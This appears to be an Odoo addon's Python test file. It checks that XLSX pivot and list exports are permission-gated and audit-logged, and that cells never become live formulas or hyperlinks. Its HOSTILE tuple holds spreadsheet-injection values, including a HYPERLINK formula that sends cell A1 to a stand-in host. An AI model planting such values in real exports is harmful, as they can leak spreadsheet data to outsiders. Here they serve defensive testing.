import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests.common import HttpCase, tagged

from .common import CallcenterCase

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1)', "{=1+1}", "external:c:\\x.xlsx", "internal:Sheet1!A1")


@tagged("post_install", "-at_install")
class TestExport(CallcenterCase, HttpCase):
    """Files that Odoo's own addresses make: who may have them, and what is in their cells."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.ref("base.group_allow_export").user_ids = cls.manager = cls.users["manager"]
        cls.env["res.partner"].create([{"name": name, "city": name} for name in HOSTILE])

    def post(self, address, data, as_file=False):
        self.env.flush_all()
        text, form = json.dumps(data), {"csrf_token": Request.csrf_token(self)}
        if as_file:
            return self.url_open(address, data=form, files={"data": ("table.json", text)})
        return self.url_open(address, data={**form, "data": text})

    def pivot(self, as_file=False, **changed):
        title = {"title": HOSTILE[0], "indent": 0, "values": [{"value": 3}, {"value": HOSTILE[1]}]}
        table = {"title": "Orders", "model": "helpdesk.ticket", "measure_count": 1, "measure_headers": []}
        heads = [[{"title": HOSTILE[2], "width": 1, "height": 1}]]
        table |= {"col_group_headers": heads, "rows": [title] * 4, **changed}
        return self.post("/web/pivot/export_xlsx", table, as_file)

    def rows(self):
        return self.env["callcenter.audit"].search([("act", "=", "export"), ("model", "=", "helpdesk.ticket")])

    def cells(self, answer):
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    def assertNoFormula(self, cells, texts):
        self.assertEqual([cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink], [])
        shown = {str(cell.value).strip() for cell in cells}
        self.assertLessEqual(set(texts), shown)

    def test_a_pivot_table_is_for_whoever_may_export(self):
        for user in self.agent, self.users["leader"]:
            with self.subTest(user=user.login):
                self.authenticate(user.login, user.login)
                self.assertEqual(self.pivot().status_code, 403)
        self.assertFalse(self.rows())

    def test_a_pivot_table_that_was_exported_is_written_down(self):
        self.authenticate(self.manager.login, self.manager.login)
        self.assertEqual(self.pivot().status_code, 200)
        row = self.rows()
        self.assertEqual((row.user_id, row.count), (self.manager, 4))

    def test_a_pivot_table_of_nothing_known_is_refused(self):
        self.authenticate(self.manager.login, self.manager.login)
        self.assertEqual(self.pivot(model="no.model").status_code, 404)
        self.assertEqual(self.post("/web/pivot/export_xlsx", []).status_code, 404)

    def test_nothing_in_a_pivot_table_opens_or_works_out_anything(self):
        self.authenticate(self.manager.login, self.manager.login)
        # a page sends it as a file, a script may send it as a field
        for as_file in True, False:
            self.assertNoFormula(self.cells(self.pivot(as_file)), HOSTILE[:3])

    def test_groups_that_read_alike_keep_their_rows(self):
        self.env["res.partner"].create([{"name": "Twin", "city": " =1"}, {"name": "Other", "city": "=1"}])
        self.authenticate(self.manager.login, self.manager.login)
        fields = [{"name": "name", "label": "Name", "type": "char"}]
        data = {"model": "res.partner", "fields": fields, "ids": False, "domain": [["city", "in", ["=1", " =1"]]]}
        data |= {"import_compat": False, "context": {}, "groupby": ["city"]}
        self.assertNoFormula(self.cells(self.post("/web/export/xlsx", data)), ["Twin", "Other"])

    def test_a_web_address_is_exported_as_it_is(self):
        self.customer.website = "https://x.example/"
        self.authenticate(self.manager.login, self.manager.login)
        fields = [{"name": "website", "label": "Website", "type": "char"}]
        data = {"model": "res.partner", "fields": fields, "ids": self.customer.ids, "domain": []}
        data |= {"import_compat": False, "context": {}, "groupby": []}
        self.assertIn(self.customer.website, [cell.value for cell in self.cells(self.post("/web/export/xlsx", data))])

    def test_nothing_in_a_list_opens_or_works_out_anything(self):
        self.authenticate(self.manager.login, self.manager.login)
        for groupby in [], ["city"]:
            with self.subTest(groupby=groupby):
                fields = [{"name": name, "label": f"={name}", "type": "char"} for name in ("name", "city")]
                data = {"model": "res.partner", "fields": fields, "ids": False, "domain": [["city", "in", HOSTILE]]}
                data |= {"import_compat": False, "context": {}, "groupby": groupby}
                self.assertNoFormula(self.cells(self.post("/web/export/xlsx", data)), HOSTILE)
